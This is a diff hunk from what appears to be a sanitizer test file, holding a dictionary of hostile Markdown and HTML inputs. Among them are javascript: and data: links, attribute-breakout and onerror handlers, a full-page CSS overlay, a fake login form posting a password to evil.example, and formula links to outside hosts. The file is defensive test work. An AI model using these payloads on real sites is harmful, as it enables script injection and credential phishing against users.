@@ -17,7 +17,7 @@ HOSTILE = {
     "javascript link": "[x](javascript:window.hit=1) [y](JaVaScRiPt&colon;hit) [z](&#106;avascript:hit=1)",
     "data link": "[x](data:text/html,<script>hit=1</script>) [y](vbscript:x) <javascript:alert(1)>",
     "attribute": '[x](https://ok.example "t\\" onmouseover=window.hit=1 x=\\"")',
-    "style": '<p style="position:fixed;inset:0">x</p><style>*{display:none}</style><link rel=stylesheet href=//e.example>',
+    "style": '<p style="position:fixed;inset:0">x</p><style>*{display:none}</style><link rel=stylesheet href=//e.ex>',
     "form": '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
     "code language": '```"><img src=x onerror=window.hit=1>\ncode\n```',
     "formula": "$\\href{javascript:window.hit=1}{x}$ and $\\htmlData{x=y}{z}$ and $\\includegraphics{//evil.example}$",
